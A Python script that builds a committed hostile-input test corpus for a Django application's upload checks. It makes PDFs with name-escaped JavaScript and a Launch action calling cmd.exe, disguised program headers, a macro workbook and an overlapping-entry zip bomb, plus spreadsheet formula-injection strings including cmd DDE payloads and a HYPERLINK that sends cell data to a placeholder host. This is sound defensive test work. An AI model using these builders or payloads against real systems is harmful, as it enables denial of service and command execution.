"""Writes the binary files of the hostile-input corpus into this folder.

    .venv/bin/python kinerja/lib/tests/hostile/make_corpus.py

The files are committed; this script says exactly how each was made, and makes
the same bytes on every run (fixed dates and identifiers, no randomness). None
of them does harm when opened: the "programs" are a program's first bytes and
nothing more, and the PDF scripts only show an alert. README.md lists what each
file is and what every upload must answer.
"""

import io
import re
import struct
import sys
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
FIXED_DATE = (2024, 1, 2, 0, 0, 0)


# --- PDF ------------------------------------------------------------------------------------------------------


def pdf(*objects: bytes) -> bytes:
    """A PDF of the given objects (1 0 obj is the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
ALERT = b"app.alert('Kinerja: skrip dalam PDF')"


def pdf_plain() -> bytes:
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE)


def pdf_javascript_open_action() -> bytes:
    # The action's type is written with an escape (#61 is "a"), as malicious
    # files do to slip past a search for the bytes "/JavaScript".
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /Type /Action /S /J#61vaScript /JS (" + ALERT + b") >>",
    )


def pdf_javascript_names() -> bytes:
    # Document-level JavaScript, run when the document opens, in the /Names tree.
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>",
        PAGES,
        PAGE,
        b"<< /Names [(kinerja) 5 0 R] >>",
        b"<< /S /JavaScript /JS (" + ALERT + b") >>",
    )


def pdf_launch_action() -> bytes:
    # A page's additional action (/AA, on open) that starts a program.
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
        b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> /F (calc.exe) >>",
    )


def pdf_embedded_file() -> bytes:
    # An attachment: a "program" (its first bytes) that a viewer offers to open.
    program = windows_program()
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>",
        PAGES,
        PAGE,
        b"<< /Names [(pembaruan.exe) 5 0 R] >>",
        b"<< /Type /Filespec /F (pembaruan.exe) /EF << /F 6 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(program) + program + b"\nendstream",
    )


def pdf_truncated() -> bytes:
    # A real three-page PDF cut short, as an interrupted transfer leaves it.
    whole = pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>",
        PAGE,
        PAGE,
        PAGE,
    )
    return whole[: len(whole) * 2 // 3]


def pdf_encrypted() -> bytes:
    """A blank page encrypted with a user password (RC4-128, pypdf), with fixed identifiers."""
    import pypdf._writer
    from pypdf import PdfWriter

    class FixedSecrets:
        @staticmethod
        def token_bytes(count: int) -> bytes:
            return b"K" * count

    real_secrets = pypdf._writer.secrets
    pypdf._writer.secrets = FixedSecrets
    try:
        writer = PdfWriter()
        writer.add_blank_page(width=595, height=842)
        writer.encrypt("rahasia", algorithm="RC4-128")
        buffer = io.BytesIO()
        writer.write(buffer)
    finally:
        pypdf._writer.secrets = real_secrets
    return buffer.getvalue()


# --- Programs and other files under a false name ----------------------------------------------------------


def windows_program() -> bytes:
    """The first bytes of a Windows program: an MZ header pointing to a PE signature. It cannot run."""
    header = bytearray(128)
    header[0:2] = b"MZ"
    header[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$"
    header[0x40 : 0x40 + len(stub)] = stub
    return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + bytes(18)


def linux_program() -> bytes:
    """The first bytes of a 64-bit Linux program (ELF header only). It cannot run."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(44)


def html_page() -> bytes:
    return b'<!doctype html><html><body><script>alert("Kinerja")</script><p>Bukti kegiatan</p></body></html>\n'


def office_encrypted() -> bytes:
    """What a password-protected .xlsx starts with: an OLE compound file, not a ZIP."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


# --- ZIP containers -------------------------------------------------------------------------------------------

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def zip_bomb(entries: int = 200, kernel_bytes: int = 10 * 1024 * 1024) -> bytes:
    """An .xlsx-looking ZIP of about 20 KB whose directory adds up to 2 GB.

    One compressed "kernel" (10 MiB of zeros, deflated to ~10 KB) is stored
    once; `entries` directory entries all point to it (the overlapping-file
    construction of D. Fifield, "A better zip bomb", 2019). A reader that trusts
    the directory inflates 200 × 10 MiB. A single deflate stream cannot expand
    much beyond 1000:1, so sharing is what makes a few kilobytes declare
    gigabytes.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = compressor.compress(bytes(kernel_bytes)) + compressor.flush()
    crc = zlib.crc32(bytes(kernel_bytes))
    dos_time, dos_date = 0, (2024 - 1980) << 9 | 1 << 5 | 2

    out = bytearray()
    central = bytearray()

    def local(name: bytes, method: int, data: bytes, size: int, crc32: int) -> int:
        offset = len(out)
        out.extend(
            struct.pack(
                "<IHHHHHIIIHH", 0x04034B50, 20, 0, method, dos_time, dos_date, crc32, len(data), size, len(name), 0
            )
        )
        out.extend(name + data)
        return offset

    def directory(name: bytes, method: int, compressed: int, size: int, crc32: int, offset: int) -> None:
        central.extend(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                method,
                dos_time,
                dos_date,
                crc32,
                compressed,
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )

    types_name = b"[Content_Types].xml"
    types_offset = local(types_name, 0, CONTENT_TYPES, len(CONTENT_TYPES), zlib.crc32(CONTENT_TYPES))
    directory(types_name, 0, len(CONTENT_TYPES), len(CONTENT_TYPES), zlib.crc32(CONTENT_TYPES), types_offset)
    kernel_offset = local(b"xl/worksheets/sheet1.xml", 8, kernel, kernel_bytes, crc)
    for index in range(1, entries + 1):
        directory(b"xl/worksheets/sheet%d.xml" % index, 8, len(kernel), kernel_bytes, crc, kernel_offset)
    start = len(out)
    out.extend(central)
    count = entries + 1
    out.extend(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), start, 0))
    return bytes(out)


def repacked(data: bytes) -> bytes:
    """The same ZIP with fixed dates, so that the bytes do not depend on the day they were made."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            fixed = zipfile.ZipInfo(info.filename, date_time=FIXED_DATE)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            content = source.read(info)
            if info.filename == "docProps/core.xml":  # openpyxl stamps the time of saving
                content = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2024-01-02T00:00:00Z", content)
            target.writestr(fixed, content)
    return out.getvalue()


def workbook_bytes(workbook) -> bytes:
    import datetime

    workbook.properties.created = workbook.properties.modified = datetime.datetime(2024, 1, 2)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return repacked(buffer.getvalue())


# The IKU import of the demo's KPU Kota Sorong for 2025: a valid file whose
# texts start like formulas (=, +, -, @, and = after a tab or a carriage
# return). Imported, the texts are kept; every export must write them back as
# text, never as a formula.
FORMULA_GOALS = [
    '=HYPERLINK("http://contoh.invalid/?curi="&A1,"Klik untuk detail")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 diawali tab",
]
FORMULA_DECREE = '\r=WEBSERVICE("http://contoh.invalid/")'
FORMULA_INDICATORS = [
    ("KPU.IKU.01", "100"),
    ("KPU.IKU.02", "2"),
    ("KPU.IKU.03", "B"),
    ("KPU.IKU.04", "WTP"),
    ("KPU.IKU.05", "30"),
]


def formula_text_workbook() -> bytes:
    from openpyxl import Workbook

    from kinerja.planning.spreadsheets import IKU_COLUMNS, IKU_SHEET

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = IKU_SHEET
    sheet.append(list(IKU_COLUMNS))
    for order, ((code, target), goal) in enumerate(zip(FORMULA_INDICATORS, FORMULA_GOALS, strict=True), 1):
        sheet.append(
            ["kpu-96.71", "KPU Kota Sorong", 2025, FORMULA_DECREE, "02-01-2025", "30-06-2025", order, goal, code]
            + [None, target, None]
        )
    # openpyxl takes any text starting with "=" for a formula; these cells are text,
    # as a spreadsheet program saves typed text.
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    return workbook_bytes(workbook)


def macro_workbook() -> bytes:
    """A small .xlsx that also carries a VBA project: a macro-enabled workbook under the .xlsx name."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = "Bukti kegiatan"
    data = workbook_bytes(workbook)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        vba = zipfile.ZipInfo("xl/vbaProject.bin", date_time=FIXED_DATE)
        target.writestr(vba, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


# --- The corpus -------------------------------------------------------------------------------------------------

FILES = {
    "program-windows.pdf": windows_program,
    "program-linux.xlsx": linux_program,
    "html-script.pdf": html_page,
    "encrypted.pdf": pdf_encrypted,
    "javascript-openaction.pdf": pdf_javascript_open_action,
    "javascript-names.pdf": pdf_javascript_names,
    "launch-action.pdf": pdf_launch_action,
    "embedded-program.pdf": pdf_embedded_file,
    "truncated.pdf": pdf_truncated,
    "zip-bomb.xlsx": zip_bomb,
    "encrypted.xlsx": office_encrypted,
    "macro.xlsx": macro_workbook,
    "formula-text.xlsx": formula_text_workbook,
}


def main() -> None:
    sys.path.insert(0, str(HERE.parents[3]))  # the repository, for kinerja.planning's column names
    import os

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "kinerja.settings")
    import django

    django.setup()
    for name, make in FILES.items():
        data = make()
        (HERE / name).write_bytes(data)
        print(f"{name:28} {len(data):>7} bytes")


if __name__ == "__main__":
    main()
